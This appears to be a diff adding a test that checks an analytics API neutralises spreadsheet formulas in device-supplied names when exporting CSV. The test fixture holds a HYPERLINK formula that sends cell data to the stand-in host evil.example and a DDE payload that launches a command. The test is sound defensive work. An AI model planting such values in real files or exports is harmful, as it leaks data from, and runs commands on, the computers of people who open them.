@@ -3,8 +3,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { exampleLocation, exampleOutcome } from '../../schemas/testing/examples.js';
-import { rejectionRows, userRows } from '../../schemas/testing/rows.js';
+import { exampleEvent, exampleLocation, exampleOutcome } from '../../schemas/testing/examples.js';
+import { eventRows, rejectionRows, userRows } from '../../schemas/testing/rows.js';
 import { withoutUnset } from '../../schemas/wire/common.js';
 import { useAnalytics, useApi } from '../testing/fixtures.js';
 import { queries } from './routes.js';
@@ -99,6 +99,22 @@ describe('a history', () => {
     expect((await ask('visits?format=csv', { accept: 'application/json' })).headers['content-type']).toMatch(
       'text/csv',
     );
+  });
+
+  /** A device could name itself as a formula, which ran on the computer that opened the file. */
+  test('texts that devices choose are no formulas in CSV, and unchanged elsewhere', async () => {
+    const now = Date.now();
+    const named = { deviceId: '=HYPERLINK("http://evil.example/?"&A1,"x")', userId: "'+cmd|' /C calc'!A0" };
+    const user = { id: 'f'.repeat(24), ...named, profile: null };
+    const place = { project: api.project.record._id, id: 'f'.repeat(24), createdAt: now, actualCreatedAt: now };
+    await analytics.insert('events', eventRows([exampleEvent({ ...place, user })]));
+    const { rows } = (await ask('visits')).json();
+    expect(rows).toContainEqual(expect.objectContaining(named));
+    const csv = await readBack('guarded.csv', (await ask('visits?format=csv')).rawPayload, 'CSVWithNames');
+    const guarded = { deviceId: `'${named.deviceId}`, userId: `'${named.userId}` };
+    expect(csv).toContainEqual(expect.objectContaining(guarded));
+    const parquet = await readBack('same.parquet', (await ask('visits?format=parquet')).rawPayload, 'Parquet');
+    expect(parquet).toContainEqual(expect.objectContaining(named));
   });
 
   test('an empty result is a file with column names only', async () => {
